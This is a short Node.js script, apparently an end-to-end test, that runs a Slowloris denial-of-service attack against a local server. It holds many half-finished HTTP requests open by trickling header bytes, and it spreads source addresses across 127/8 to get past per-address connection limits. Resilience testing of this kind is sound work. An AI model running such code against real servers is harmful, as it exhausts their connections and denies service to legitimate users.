// SPDX-License-Identifier: LGPL-2.1-only
// Slowloris: hold N connections to 127.0.0.1:PORT that never finish their request, each
// sending one more header byte every INTERVAL ms. The sockets are bound to 127.0.0.2 ..
// 127.0.0.(1+ADDRS) so that a per-address connection limit does not simply refuse them
// (a local attacker can use any 127/8 address). Prints "held N" once all are connected
// (and every 2 s the number still open), runs until killed.
// node tests/e2e/slowloris.mjs PORT [N=1000] [ADDRS=20] [INTERVAL_MS=2000]
import net from 'node:net';

const port = Number(process.argv[2]);
const n = Number(process.argv[3] || 1000);
const addrs = Number(process.argv[4] || 20);
const interval = Number(process.argv[5] || 2000);
let open = 0, connected = 0, refused = 0;
const socks = [];
for (let i = 0; i < n; i++) {
    const s = net.connect({ host: '127.0.0.1', port, localAddress: `127.0.0.${2 + (i % addrs)}` });
    s.on('connect', () => {
        connected++;
        open++;
        s.write('POST / HTTP/1.1\r\nHost: x\r\nX-Slow: ');
        if (connected === n) console.log(`held ${open}`);
    });
    s.on('error', () => { refused++; });
    s.on('close', () => { open--; });
    socks.push(s);
}
setInterval(() => {
    for (const s of socks) if (!s.destroyed) s.write('a');
}, interval);
setInterval(() => console.log(`open ${open} connected ${connected} refused ${refused}`), 2000);
